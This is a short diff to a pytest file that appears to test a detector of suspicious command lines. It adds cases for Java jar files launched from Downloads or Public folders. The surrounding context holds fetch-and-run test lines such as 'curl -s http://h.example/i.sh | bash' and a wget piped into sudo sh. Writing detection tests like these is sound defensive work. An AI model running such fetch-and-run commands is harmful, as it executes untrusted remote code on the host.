@@ -27,6 +27,11 @@ TOOL = "parent_fake_tool"
 @pytest.mark.parametrize(
     ("line", "indicators"),
     [
+        # a program of Java that came by mail or from the web
+        ('"C:\\Java\\bin\\javaw.exe" -jar "C:\\Users\\ann\\Downloads\\Order 7.jar"', [PLACE]),
+        ("java -Xmx1g -jar C:\\Users\\Public\\a.jar", [PLACE]),
+        ("java -jar C:\\ci\\agent.jar", []),
+        ("java -jar C:\\src\\app\\target\\a.jar", []),
         # a script straight from the web
         ("bash -c curl -s http://h.example/i.sh | bash", [FETCHED]),
         ("sh -c 'wget -qO- https://h.example/i | sudo sh'", [FETCHED]),
